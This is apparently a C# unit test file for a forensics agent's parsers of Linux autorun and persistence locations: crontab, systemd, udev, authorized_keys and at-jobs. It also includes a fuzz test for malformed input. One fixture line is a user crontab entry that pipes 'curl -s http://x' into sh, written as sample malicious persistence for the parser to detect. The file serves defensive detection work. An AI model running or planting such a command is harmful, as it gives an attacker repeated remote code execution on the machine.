using Osprey.Agent.Forensics;

namespace Osprey.Agent.Tests.Forensics;

/// <summary>The autorun file parsers on real-shaped lines and on malformed input (which must yield entries or none, never an error).</summary>
public sealed class AutorunParsersTests
{
    [Fact]
    public void Crontab_SkipsAssignmentsAndComments_AndKnowsSystemFromUserTables()
    {
        var system = AutorunParsers.Crontab("SHELL=/bin/sh\n# x\n@reboot root /opt/a --b\n0 4 * * 1-5\tbackup\t/usr/bin/tar czf /b.tgz /etc\n1 2 3\n", system: true, "");
        Assert.Equal([new AutorunCommand(3, "/opt/a --b", "root"), new AutorunCommand(4, "/usr/bin/tar czf /b.tgz /etc", "backup")], system);
        var user = AutorunCommandLines(AutorunParsers.Crontab("*/5 * * * * curl -s http://x | sh\n", system: false, "mallory"));
        Assert.Equal(["1 curl -s http://x | sh mallory"], user);
    }

    [Fact]
    public void SystemdUnit_TakesExecLinesWithoutTheirPrefixes_AndTimerTriggers()
    {
        var (exec, user, triggers, unit) = AutorunParsers.SystemdUnit("[Service]\nUser=svc\nExecStartPre=-/bin/mkdir -p /run/x\nExecStart=!!/usr/bin/x --y\n[Timer]\nOnBootSec=5min\nUnit=other.service\n");
        Assert.Equal(["ExecStartPre=/bin/mkdir -p /run/x", "ExecStart=/usr/bin/x --y"], exec.Select(e => e.Command));
        Assert.Equal(("svc", "OnBootSec=5min", "other.service"), (user, triggers, unit));
    }

    [Fact]
    public void UdevAuthorizedKeysAndAtJobs_ReadWhatTheyRun()
    {
        Assert.Equal("/bin/a %k; /bin/b", Assert.Single(AutorunParsers.UdevRules("KERNEL==\"sd*\", PROGRAM==\"/bin/a %k\", RUN{program}+=\"/bin/b\"\n")).Command);
        Assert.Empty(AutorunParsers.UdevRules("KERNEL==\"sd*\", NAME=\"x\"\n"));
        var keys = AutorunParsers.AuthorizedKeys("from=\"10.0.0.1\",command=\"echo \\\"hi\\\"\" ssh-ed25519 AAAA c\n\ngarbage\n", "u");
        Assert.Equal("echo \"hi\"", Assert.Single(keys).Command);
        Assert.Equal("/bin/job arg", AutorunParsers.ScriptBody("#!/bin/sh\nexport X\ncd /home/u || {\n echo no\n exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b'\n/bin/job arg\nmarcinDELIMITER0a1b\n", atJob: true));
    }

    [Fact]
    public void MalformedInput_NeverThrows()
    {
        var random = new Random(5);
        const string alphabet = "=\"'{}[]@*#\\ \t\nRUNPROGRAMExecStart=command=ssh-rsa install cd || {}marcinDELIMITER";
        for (var i = 0; i < 2_000; i++)
        {
            var text = new string([.. Enumerable.Range(0, random.Next(200)).Select(_ => alphabet[random.Next(alphabet.Length)])]);
            _ = AutorunParsers.Crontab(text, system: i % 2 == 0, "u");
            _ = AutorunParsers.Anacrontab(text);
            _ = AutorunParsers.SystemdUnit(text);
            _ = AutorunParsers.Desktop(text, "u");
            _ = AutorunParsers.UdevRules(text);
            _ = AutorunParsers.AuthorizedKeys(text, "u");
            _ = AutorunParsers.ModulesLoad(text);
            _ = AutorunParsers.ModprobeInstall(text);
            _ = AutorunParsers.LdPreload(text);
            _ = AutorunParsers.ScriptBody(text, atJob: i % 2 == 0);
        }
    }

    private static List<string> AutorunCommandLines(IEnumerable<AutorunCommand> commands) => [.. commands.Select(c => $"{c.Line} {c.Command} {c.User}")];
}
